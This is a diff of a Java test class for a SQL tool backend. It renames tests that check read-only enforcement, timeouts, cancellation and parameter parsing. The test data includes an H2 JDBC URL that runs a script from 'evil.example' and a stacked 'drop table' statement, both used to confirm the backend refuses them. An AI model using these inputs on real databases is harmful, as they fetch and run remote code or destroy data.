@@ -205,7 +205,7 @@ class SqlBackendTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"h2", "postgresql"})
-    void whatOnlyReadsChangesNothing(String database) throws Exception {
+    void readOnlyStatementCannotWrite(String database) throws Exception {
         open(database);
         call("sneaky", "{}");
         assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}")).contains("Rex");
@@ -213,7 +213,7 @@ class SqlBackendTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"h2", "postgresql"})
-    void whatIsTooLongOrTooMuchIsEnded(String database) throws Exception {
+    void slowOrLargeStatementIsAborted(String database) throws Exception {
         open(database);
         assertThat(code("slow", "{}")).isEqualTo(ToolErrorCode.TIMEOUT);
         assertThat(code("many", "{}")).isEqualTo(ToolErrorCode.TOO_LARGE);
@@ -222,7 +222,7 @@ class SqlBackendTest {
 
     @ParameterizedTest
     @CsvSource({"h2, slow", "h2, slow_write", "postgresql, slow", "postgresql, slow_write"})
-    void aStatementIsEndedWhenItsCallIsCancelled(String database, String tool) throws Exception {
+    void cancelledCallAbortsItsStatement(String database, String tool) throws Exception {
         open(database, 50_000);
         CallId id = new CallId("e", calls.incrementAndGet());
         CompletableFuture<ToolResult> slow = Objects.requireNonNull(backend)
@@ -257,7 +257,7 @@ class SqlBackendTest {
     }
 
     @Test
-    void overRestNobodyConfiguresADatabase() {
+    void databaseCannotBeConfiguredOverTheApi() {
         BackendDefinition sent = definition(
                 "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/'\",\"statements\":{\"a\":{\"sql\":\"select 1\"}}}",
                 BackendDefinition.BackendOrigin.API);
@@ -275,14 +275,14 @@ class SqlBackendTest {
                 "select /* :x */ 'it''s :y' || :a || :b || :a; § select /* :x */ 'it''s :y' || ? || ? || ? § a,b,a",
                 "select $$ :x ; ? $$, $t$ :y $$ $t$, :z § select $$ :x ; ? $$, $t$ :y $$ $t$, ? § z",
             })
-    void onlyWhatIsAnArgumentIsBound(String written, String sql, String parameters) {
+    void onlyNamedParametersAreBound(String written, String sql, String parameters) {
         assertThat(NamedParameterStatement.parse(written))
                 .contains(new NamedParameterStatement.ParsedStatement(sql, List.of(parameters.split(",", -1))));
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"select 1; drop table pet", "select * from pet where id = ?"})
-    void severalStatementsOrNamelessPlacesAreRefused(String written) {
+    void multipleStatementsAndUnnamedParametersAreRefused(String written) {
         assertThat(NamedParameterStatement.parse(written)).isEmpty();
     }
 }
